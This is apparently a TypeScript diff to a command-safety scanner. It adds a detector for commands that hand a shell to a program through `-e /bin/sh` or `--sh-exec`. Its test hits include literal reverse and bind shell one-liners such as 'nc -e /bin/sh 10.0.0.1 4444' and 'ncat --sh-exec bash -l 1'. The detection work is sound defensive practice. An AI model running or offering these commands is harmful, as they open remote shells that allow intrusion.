@@ -1,11 +1,21 @@
-import type { Shape } from '../model/facts.js'
+import type { Invocation, Shape } from '../model/facts.js'
 import { type Builtin, knownArgs } from './builtin.js'
 import type { DecideInput, Finding } from './scene.js'
+import { isAnonymous } from './trusted-name.js'
 
 const shaped =
   (kind: Shape['kind'], program: string) =>
   ({ facts }: DecideInput): readonly Finding[] =>
     facts.shapes.filter((shape) => shape.kind === kind).map(({ span }) => ({ span, program }))
+
+/** `-e /bin/sh`, whatever the program calls itself. */
+const handsOutShell = (part: Invocation): boolean => {
+  const args = knownArgs(part)
+  return args.some(
+    (arg, i) =>
+      /^(?:-[a-z]*[ec]|--(?:sh-)?exec)$/.test(arg) && /^(?:\/\S*\/)?(?:ba|da|z|k)?sh$/.test(args[i + 1] ?? ''),
+  )
+}
 
 /** Dangerous as a whole rather than by one program. */
 export const SHAPE_BUILTINS: readonly Builtin[] = [
@@ -48,7 +58,10 @@ export const SHAPE_BUILTINS: readonly Builtin[] = [
           ? /^(?:exec|system|shell):/i.test(arg)
           : /^-[A-Za-z]*[ec]/.test(arg) || /^--(?:e|sh|lua)/.test(arg),
       ),
+    finds: ({ facts }) =>
+      facts.invocations.filter((part) => isAnonymous(part) && handsOutShell(part)).map(({ span }) => ({ span })),
     hits: [
+      '"$(cat x)" -e /bin/sh 10.0.0.1 4444',
       'nc -e /bin/sh 10.0.0.1 4444',
       'ncat --sh-exec bash -l 1',
       'nc -lvc bash',
